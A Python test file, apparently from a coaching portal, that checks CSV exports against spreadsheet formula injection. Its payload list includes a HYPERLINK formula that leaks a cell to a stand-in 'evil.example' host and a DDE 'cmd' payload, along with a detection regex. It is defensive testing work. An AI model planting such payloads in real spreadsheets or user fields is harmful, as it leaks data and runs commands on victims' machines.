"""What clients write must not come to life in a coach's spreadsheet: every cell of every table that goes out."""

import csv
import io
import re
import zipfile

import pytest

from coach_portal.core.models import tables
from coach_portal.core.rules.csv_file import harmless
from coach_portal.core.schemas.imports import read_rows
from tests.rows import change

STARTERS = re.compile(r"^[\s\ufeff\0]*[=+\-@＝＋－＠]|^[\t\r\n\0]")
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Ruth")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "  =1", "＝1", "＋1", "\u00a0=1", "\ufeff=1", "\0=1", "\x0b=1", "\u200b=1", "\u3000＝1",
]  # fmt: skip
A_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_formula_leaves_as_one(formula):
    told = harmless(formula)
    assert str(told).startswith("'")
    assert formula in str(told)


def test_a_phone_number_stays_readable_and_comes_back_in():
    told = harmless("+16175550112")
    rows = read_rows("clients", f"name,phone,timezone\nEli Brandt,{told},America/New_York\n")
    assert [row["phone"] for _, row in rows.good] == ["+16175550112"]


def tables_of(answer):
    """Every CSV in an answer, by its name."""
    if answer.mimetype == "text/csv":
        yield "csv", answer.data
        return
    with zipfile.ZipFile(io.BytesIO(answer.data)) as packed:
        yield from ((name, packed.read(name)) for name in packed.namelist() if name.endswith(".csv"))


def test_every_table_that_goes_out_is_harmless(alice, story, ruth):
    formula = FORMULAS[0]
    change(story.wired.database, tables.client, story.cast.ruth, name=formula)
    story.goal(formula)
    story.text(formula)
    story.text(f"did 5 squats\n{FORMULAS[3]}")
    alice.post(f"{ruth}/notes", {"body": FORMULAS[1]}, page=ruth)
    alice.post("/clients/many/tag", {"clients": str(story.cast.ruth), "tag": FORMULAS[3]}, page=ruth)
    bad = f'name,phone,timezone\n"{FORMULAS[1]}",{FORMULAS[2]},nowhere\n'
    file = {"kind": "clients", "file": (io.BytesIO(bad.encode()), "=cmd.csv")}
    draft = alice.post("/clients/import", file, content_type="multipart/form-data").location.partition("?")[0]
    answers = [
        alice.ask("GET", f"{ruth}/everything.zip"), alice.ask("GET", f"{ruth}/consent.csv"),
        alice.ask("GET", f"{draft}/to-mend.csv"), alice.post("/practice/records/everything", page="/practice/records"),
    ]  # fmt: skip
    seen = 0
    for answer in answers:
        assert answer.status_code == 200
        for name, content in tables_of(answer):
            for cells in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
                for cell in cells:
                    assert A_NUMBER.fullmatch(cell) or not STARTERS.match(cell), (name, cell)
                    seen += "HYPERLINK" in cell or "cmd|" in cell
    assert seen >= 4, "the formulas were not in what went out"
